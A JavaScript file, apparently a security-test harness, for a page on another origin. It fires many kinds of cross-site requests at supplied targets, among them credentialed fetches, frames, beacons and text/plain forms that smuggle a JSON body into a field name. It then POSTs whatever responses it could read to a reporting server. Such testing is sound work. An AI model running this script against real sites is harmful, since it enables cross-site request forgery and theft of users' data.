/* The script of a page elsewhere. It tries every way in which a page can call an address, and tells its own server what it saw. */

const ANSWER_MS_MAX = 3_000
const LOOK_MS = 50
const TARGETS_AT_ONCE = 4

const inTime = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve('silent'), ANSWER_MS_MAX))])

const element = (name, attributes) => {
  const made = Object.assign(document.createElement(name), attributes)
  document.body.append(made)
  return made
}

/** The text of a frame or window, which only a page of the same origin may read. */
const textIn = (documentOf) => {
  try {
    const text = documentOf().body.textContent
    return text === '' ? 'opaque' : `read ${text}`
  } catch {
    return 'opaque'
  }
}

const asks =
  (options) =>
  async ({ url, body }) => {
    const method = body === undefined ? 'GET' : 'POST'
    const answer = await fetch(url, { method, body, ...options })
    return answer.type === 'opaque' ? 'opaque' : `${answer.status} ${await answer.text()}`
  }

const loads =
  (make) =>
  ({ url }) =>
    new Promise((resolve, reject) => {
      const loading = make(url)
      loading.addEventListener('load', () => resolve('loaded'))
      loading.addEventListener('error', reject)
    })

const opens =
  (make) =>
  ({ url }) =>
    new Promise((resolve, reject) => {
      const opening = make(url)
      opening.addEventListener('open', () => resolve('opened'))
      opening.addEventListener('error', reject)
    })

const inFrame = (attributes, begin) => (target) =>
  new Promise((resolve) => {
    const frame = element('iframe', { name: `frame-${Math.random()}`, ...attributes })
    begin(frame, target)
    frame.addEventListener('load', () => resolve(textIn(() => frame.contentDocument)))
  })

/** text/plain makes `name=value` of a field, here the JSON of the body with one more member. */
const submit =
  (attributes) =>
  (target, { url, body }) => {
    const form = element('form', { method: 'post', action: url, target: target.name, ...attributes })
    form.append(Object.assign(document.createElement('input'), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }))
    form.submit()
  }

const inWindow = async ({ url }) => {
  const opened = window.open(url)
  const hasLoaded = () => opened.location.href !== 'about:blank' && opened.document.readyState === 'complete'
  try {
    while (!hasLoaded()) await new Promise((resolve) => setTimeout(resolve, LOOK_MS))
    return textIn(() => opened.document)
  } catch {
    // It has a page of another origin.
    return 'opaque'
  } finally {
    opened.close()
  }
}

const GETS = {
  fetch: asks({}),
  'fetch with credentials': asks({ credentials: 'include' }),
  'fetch with a header': asks({ headers: { 'content-type': 'application/json' } }),
  'fetch without cors': asks({ mode: 'no-cors' }),
  image: loads((src) => element('img', { src })),
  script: loads((src) => element('script', { src })),
  style: loads((href) => element('link', { rel: 'stylesheet', href })),
  frame: inFrame({}, (frame, { url }) => (frame.src = url)),
  'frame of a sandbox': inFrame({ sandbox: 'allow-scripts' }, (frame, { url }) => (frame.src = url)),
  window: inWindow,
  'link without referrer': inFrame({}, (frame, { url }) =>
    element('a', { href: url, rel: 'noreferrer', target: frame.name }).click(),
  ),
  'event source': opens((url) => new EventSource(url, { withCredentials: true })),
  'web socket': opens((url) => new WebSocket(url.replace('http', 'ws'))),
}

const POSTS = {
  'fetch of JSON': asks({ headers: { 'content-type': 'application/json' } }),
  'fetch of JSON with credentials': asks({ headers: { 'content-type': 'application/json' }, credentials: 'include' }),
  'fetch of text': asks({ headers: { 'content-type': 'text/plain' } }),
  'fetch of text without cors': asks({ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
  'fetch without a type': ({ url }) => asks({ mode: 'no-cors' })({ url, body: new Uint8Array(0) }),
  beacon: async ({ url, body }) => (navigator.sendBeacon(url, body) ? 'opaque' : 'failed'),
  form: inFrame({}, submit({ enctype: 'text/plain' })),
  'form without referrer': inFrame({}, submit({ enctype: 'text/plain', rel: 'noreferrer' })),
}

const outcomes = []
const { targets, answerTo } = ATTACK
const tryAll = async () => {
  for (let target = targets.shift(); target !== undefined; target = targets.shift()) {
    const { url, body } = target
    const tries = Object.entries(body === undefined ? GETS : POSTS).map(async ([way, attempt]) => {
      const outcome = await inTime(attempt({ url, body })).catch((error) => `failed ${error.message ?? error.type}`)
      outcomes.push({ url, way, outcome: outcome.slice(0, 200) })
    })
    await Promise.all(tries)
  }
}
await Promise.all(Array.from({ length: TARGETS_AT_ONCE }, tryAll))
await fetch(answerTo, { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) })
